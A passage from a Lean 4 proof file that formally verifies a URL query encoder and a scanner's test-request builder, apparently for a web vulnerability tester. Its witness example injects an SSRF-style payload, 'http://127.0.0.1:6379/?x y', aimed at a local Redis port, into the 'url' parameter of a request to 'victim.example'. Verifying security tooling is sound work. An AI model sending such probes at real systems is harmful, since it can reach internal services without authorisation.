    exact fun b hbv => (hb pr0 (List.mem_filter.mp hpr0).1).2 b (hsnd ▸ hbv)

/-- Parsing the encoding of a `Values` map recovers its canonical pair
walk. -/
theorem parseQueryPairs_valuesEncode (ps : List (GoStr × GoStr))
    (hb : ∀ pr ∈ ps, (∀ b ∈ pr.1, b < 256) ∧ (∀ b ∈ pr.2, b < 256)) :
    parseQueryPairs (valuesEncode ps) = canonPairs ps := by
  unfold parseQueryPairs valuesEncode
  apply parseQueryLoop_comps (canonPairs ps) _ (canonPairs_bytes ps hb)
  have hne : ∀ c ∈ (canonPairs ps).map mkComp, c ≠ [] := by
    intro c hc
    obtain ⟨pr, _, rfl⟩ := List.mem_map.mp hc
    exact mkComp_ne_nil pr
  have := joinAmp_length ((canonPairs ps).map mkComp) hne
  simp only [List.length_map] at this
  omega

/-- Setting a key gives it exactly the one value. -/
theorem vOf_valuesSet_self (ps : List (GoStr × GoStr)) (k v : GoStr) :
    vOf (valuesSet ps k v) k = [v] := by
  unfold valuesSet
  rw [vOf_append]
  have h1 : vOf (ps.filter (fun pr => !(pr.1 == k))) k = [] := by
    unfold vOf
    rw [List.filter_filter]
    have hp : (fun a : GoStr × GoStr => (a.1 == k) && !(a.1 == k)) = fun _ => false := by
      funext a
      cases a.1 == k <;> rfl
    rw [hp, List.filter_false]
    rfl
  rw [h1]
  unfold vOf
  simp

/-- Setting a key leaves every other key's values unchanged. -/
theorem vOf_valuesSet_other (ps : List (GoStr × GoStr)) (k v k' : GoStr)
    (hk : k' ≠ k) : vOf (valuesSet ps k v) k' = vOf ps k' := by
  unfold valuesSet
  rw [vOf_append]
  have h2 : vOf [(k, v)] k' = [] := by
    unfold vOf
    simp [Ne.symm hk]
  rw [h2, List.append_nil]
  unfold vOf
  rw [List.filter_filter]
  congr 1
  apply List.filter_congr
  intro a _
  cases ha : a.1 == k' with
  | false => rfl
  | true =>
    have : a.1 = k' := by simpa using ha
    simp [this, hk]

/-- C10 (confirmed): the GET request builder changes only the query string:
scheme, host, path and fragment are untouched; in the rebuilt query the
tested parameter maps to exactly the payload (one value — an existing
parameter is overwritten, not duplicated), every other parameter keeps its
decoded values, and the percent-encoded `param=payload` component appears in
the encoded output. -/
theorem claim_C10_thm (u : GoURL) (param payload : GoStr)
    (hq : ∀ b ∈ u.rawQuery, b < 256) (hp : ∀ b ∈ param, b < 256)
    (hv : ∀ b ∈ payload, b < 256) :
    (buildTestURL u param payload).scheme = u.scheme ∧
    (buildTestURL u param payload).host = u.host ∧
    (buildTestURL u param payload).path = u.path ∧
    (buildTestURL u param payload).fragment = u.fragment ∧
    vOf (parseQueryPairs (buildTestURL u param payload).rawQuery) param = [payload] ∧
    (∀ k, k ≠ param →
      vOf (parseQueryPairs (buildTestURL u param payload).rawQuery) k =
        vOf (parseQueryPairs u.rawQuery) k) ∧
    (escList param ++ 61 :: escList payload) ∈
      (canonPairs (valuesSet (parseQueryPairs u.rawQuery) param payload)).map mkComp := by
  have hps0b : ∀ pr ∈ parseQueryPairs u.rawQuery,
      (∀ b ∈ pr.1, b < 256) ∧ (∀ b ∈ pr.2, b < 256) :=
    parseQueryLoop_bytes _ _ hq
  have hps1b : ∀ pr ∈ valuesSet (parseQueryPairs u.rawQuery) param payload,
      (∀ b ∈ pr.1, b < 256) ∧ (∀ b ∈ pr.2, b < 256) := by
    intro pr hpr
    unfold valuesSet at hpr
    rcases List.mem_append.mp hpr with h | h
    · exact hps0b pr (List.mem_filter.mp h).1
    · rcases List.mem_cons.mp h with he | he
      · subst he
        exact ⟨hp, hv⟩
      · simp at he
  have hparse : parseQueryPairs (buildTestURL u param payload).rawQuery =
      canonPairs (valuesSet (parseQueryPairs u.rawQuery) param payload) :=
    parseQueryPairs_valuesEncode _ hps1b
  refine ⟨rfl, rfl, rfl, rfl, ?_, ?_, ?_⟩
  · rw [hparse, vOf_canonPairs, vOf_valuesSet_self]
  · intro k hk
    rw [hparse, vOf_canonPairs, vOf_valuesSet_other _ _ _ _ hk]
  · have hmem : (param, payload) ∈
        canonPairs (valuesSet (parseQueryPairs u.rawQuery) param payload) := by
      unfold canonPairs
      apply List.mem_flatMap.mpr
      refine ⟨param, ?_, ?_⟩
      · rw [mem_encodeKeys]
        refine List.mem_map.mpr ⟨(param, payload), ?_, rfl⟩
        unfold valuesSet
        exact List.mem_append_right _ (List.mem_cons_self _ _)
      · rw [vOf_valuesSet_self]
        simp
    exact List.mem_map_of_mem mkComp hmem

/-- C10 witness: a query that already binds the tested parameter and an
unrelated parameter, with a payload needing percent-encoding. -/
theorem claim_C10_witness :
    ((∀ b ∈ (gs "a=1&url=x&a=2"), b < 256) ∧ (∀ b ∈ gs "url", b < 256) ∧
      (∀ b ∈ gs "http://127.0.0.1:6379/?x y", b < 256)) ∧
    vOf (parseQueryPairs (buildTestURL
        ⟨gs "http", gs "victim.example", gs "/api", gs "a=1&url=x&a=2", []⟩
        (gs "url") (gs "http://127.0.0.1:6379/?x y")).rawQuery) (gs "url") =
      [gs "http://127.0.0.1:6379/?x y"] :=
  ⟨⟨by decide, by decide, by decide⟩,
    (claim_C10_thm ⟨gs "http", gs "victim.example", gs "/api", gs "a=1&url=x&a=2", []⟩
      (gs "url") (gs "http://127.0.0.1:6379/?x y")
      (by decide) (by decide) (by decide)).2.2.2.2.1⟩
